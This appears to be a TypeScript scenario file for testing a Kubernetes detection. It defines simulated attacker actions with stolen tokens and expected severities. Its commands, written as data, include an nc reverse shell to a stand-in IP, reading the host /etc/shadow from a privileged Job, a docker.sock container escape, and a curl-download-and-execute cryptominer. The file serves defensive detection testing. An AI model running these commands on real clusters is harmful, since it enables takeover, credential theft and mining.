import type { Actor, Scenario } from '../types.js';
import { compromisedDeveloper, developer, serviceAccountToken } from './actors.js';
import { container, cronJob, hostPathVolume, job, mount } from './manifests.js';
import { create, list } from './steps.js';

/** The CI build agent's token, lifted from its pod after a dependency-confusion compromise. */
export const stolenBuildAgentToken: Actor = serviceAccountToken({
  namespace: 'ci',
  serviceAccount: 'build-agent',
  pod: 'build-agent-6f9c7d5b8-x7p2q',
  node: 'ip-10-0-33-17.eu-west-1.compute.internal',
  podIP: '10.0.38.144',
  authorizationReason:
    'RBAC: allowed by ClusterRoleBinding "build-agent-deployer" of ClusterRole "edit" to ServiceAccount "build-agent/ci"',
});

const ATOMIC_KUBECTL = 'kubectl/v1.24.17 (linux/amd64) kubernetes/22a9682';

/** A kubeadm ≤ 1.28 admin certificate: system:masters, which bypasses RBAC (empty reason). */
const mastersAdmin: Actor = {
  username: 'kubernetes-admin',
  groups: ['system:masters', 'system:authenticated'],
  sourceIP: '192.168.56.10',
  userAgent: ATOMIC_KUBECTL,
  authorizationReason: '',
};

/** The four adversary tests of the seed detection's testing methodology, and its ADS steps. */
export const SEED_SCENARIOS: Scenario[] = [
  {
    id: 'seed-reverse-shell-cronjob',
    title: 'CronJob with an nc reverse shell (seed test 1)',
    description:
      'A stolen developer kubeconfig creates argus-test-cronjob in default: alpine:latest, /bin/sh -c, args with an nc reverse shell. The schedule fires Jobs and Pods.',
    technique: 'T1053.007',
    kind: 'attack',
    expect: { minSeverity: 'medium' },
    source: 'seed test 1',
    evasionClass: 'nc -e reverse shell in args',
    steps: [
      create(
        compromisedDeveloper,
        cronJob({ name: 'argus-test-cronjob', namespace: 'default' }, '*/1 * * * *', {
          containers: [
            container('argus-test', 'alpine:latest', {
              command: ['/bin/sh', '-c'],
              args: ['nc 203.0.113.47 4444 -e /bin/sh'],
            }),
          ],
          restartPolicy: 'OnFailure',
        }),
        { followUps: 2 },
      ),
    ],
  },
  {
    id: 'seed-privileged-job-hostpath-etc',
    title: 'Privileged Job mounting the host /etc (seed test 2)',
    description:
      "A CI service-account token used from its pod creates a privileged busybox:latest Job that mounts the node's /etc and reads the shadow file.",
    technique: 'T1611',
    kind: 'attack',
    expect: { minSeverity: 'medium' },
    source: 'seed test 2',
    evasionClass: 'privileged + hostPath /etc',
    steps: [
      create(
        stolenBuildAgentToken,
        job(
          { name: 'argus-test-privileged-job', namespace: 'default' },
          {
            volumes: [hostPathVolume('host-etc', '/etc')],
            containers: [
              container('argus-test', 'busybox:latest', {
                command: ['/bin/sh', '-c', 'cat /host-etc/shadow && sleep 30'],
                securityContext: { privileged: true },
                volumeMounts: [mount('host-etc', '/host-etc')],
              }),
            ],
            restartPolicy: 'Never',
          },
          { spec: { backoffLimit: 0 } },
        ),
        { followUps: 1 },
      ),
    ],
  },
  {
    id: 'seed-docker-socket-cronjob',
    title: 'CronJob mounting the Docker socket (seed test 3)',
    description:
      'A CronJob every five minutes mounts /var/run/docker.sock and uses it to start a privileged container in the host PID namespace.',
    technique: 'T1611',
    kind: 'attack',
    expect: { minSeverity: 'medium' },
    source: 'seed test 3',
    evasionClass: 'container runtime socket (docker.sock)',
    steps: [
      create(
        compromisedDeveloper,
        cronJob({ name: 'argus-test-docker-socket', namespace: 'default' }, '*/5 * * * *', {
          volumes: [hostPathVolume('docker-sock', '/var/run/docker.sock', 'Socket')],
          containers: [
            container('argus-test', 'docker:24.0.7-cli', {
              command: [
                '/bin/sh',
                '-c',
                'docker -H unix:///var/run/docker.sock run --rm --privileged --pid=host alpine:3.19 nsenter -t 1 -m -u -n -i sh -c "id > /tmp/escape-proof"',
              ],
              volumeMounts: [mount('docker-sock', '/var/run/docker.sock')],
            }),
          ],
          restartPolicy: 'OnFailure',
        }),
        { followUps: 2 },
      ),
    ],
  },
  {
    id: 'seed-cryptominer-cronjob',
    title: 'Cryptomining CronJob: curl, chmod +x, run (seed test 4)',
    description:
      'A CronJob on ubuntu:20.04 downloads a binary named after the Kinsing miner with curl, marks it executable and runs it.',
    technique: 'T1053.007',
    kind: 'attack',
    expect: { minSeverity: 'medium' },
    source: 'seed test 4',
    evasionClass: 'download, chmod +x, execute',
    steps: [
      create(
        compromisedDeveloper,
        cronJob({ name: 'argus-test-cryptominer', namespace: 'default' }, '*/10 * * * *', {
          containers: [
            container('argus-test', 'ubuntu:20.04', {
              command: [
                '/bin/bash',
                '-c',
                'curl -fsSL http://198.51.100.77/bin/kdevtmpfsi -o /tmp/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi',
              ],
            }),
          ],
          restartPolicy: 'OnFailure',
        }),
        { followUps: 2 },
      ),
    ],
  },
  {
    id: 'seed-kubectl-create-cronjob',
    title: 'kubectl create cronjob example-cron (seed validation step)',
    description:
      'kubectl create cronjob example-cron --image=alpine --schedule="*/5 * * * *" -- /bin/sh -c "echo \'Hello from the Kubernetes cluster\'", exactly as kubectl encodes it: no namespace in the body, the job template named after the CronJob, restartPolicy OnFailure.',
    technique: 'T1053.007',
    kind: 'attack',
    expect: { minSeverity: 'low' },
    source: 'seed ADS validation step 2',
    evasionClass: 'benign-looking payload on a general-purpose image',
    steps: [
      create(
        developer,
        {
          kind: 'CronJob',
          apiVersion: 'batch/v1',
          metadata: { name: 'example-cron' },
          spec: {
            schedule: '*/5 * * * *',
            jobTemplate: {
              metadata: { name: 'example-cron' },
              spec: {
                template: {
                  spec: {
                    containers: [
                      {
                        name: 'example-cron',
                        image: 'alpine',
                        command: ['/bin/sh', '-c', "echo 'Hello from the Kubernetes cluster'"],
                      },
                    ],
                    restartPolicy: 'OnFailure',
                  },
                },
              },
            },
          },
        },
        {
          namespace: 'default',
          followUps: 2,
          kubectl: `kubectl create cronjob example-cron --image=alpine --schedule="*/5 * * * *" -- /bin/sh -c "echo 'Hello from the Kubernetes cluster'"`,
        },
      ),
    ],
  },
  {
    id: 'seed-kubectl-get-cronjobs',
    title: 'kubectl get cronjobs (seed validation step 1)',
    description:
      'Listing CronJobs: a read logged at Metadata level with no body. Nothing in it can be malicious, so it may at most be informational context.',
    technique: 'T1053.007',
    kind: 'benign',
    expect: { maxSeverity: 'informational' },
    source: 'seed ADS validation step 1',
    steps: [list(developer, 'cronjobs', 'batch', 'v1', 'default')],
  },
  {
    id: 'atomic-t1053-007-cronjob',
    title: 'Atomic Red Team T1053.007: ListCronjobs, CreateCronjob, cleanup',
    description:
      'The Atomic tests as published: kubectl get cronjobs -n default, kubectl create -f src/cronjob.yaml -n default (batch/v1beta1 CronJob "art", busybox:stable, every minute, "date; echo Hello from Atomic Red Team"), then kubectl delete cronjob art. batch/v1beta1 was removed in 1.25, so this plays on a 1.24 cluster, where the API server marks the request deprecated.',
    technique: 'T1053.007',
    kind: 'attack',
    expect: { minSeverity: 'low' },
    source: 'atomic red team T1053.007 tests 1 and 2',
    evasionClass: 'benign-looking payload, every-minute schedule',
    kubernetes: { version: 'v1.24.17', commit: '22a9682' },
    mainStep: 1,
    steps: [
      list(mastersAdmin, 'cronjobs', 'batch', 'v1', 'default'),
      create(
        mastersAdmin,
        cronJob(
          { name: 'art', namespace: 'default' },
          '*/1 * * * *',
          {
            containers: [
              container('hello', 'busybox:stable', {
                imagePullPolicy: 'IfNotPresent',
                command: ['/bin/sh', '-c', 'date; echo Hello from Atomic Red Team'],
              }),
            ],
            restartPolicy: 'OnFailure',
          },
          { apiVersion: 'batch/v1beta1' },
        ),
        { followUps: 2 },
      ),
      {
        actor: mastersAdmin,
        verb: 'delete',
        resource: 'cronjobs',
        apiGroup: 'batch',
        apiVersion: 'v1',
        namespace: 'default',
        name: 'art',
        delaySeconds: 150,
      },
    ],
  },
];
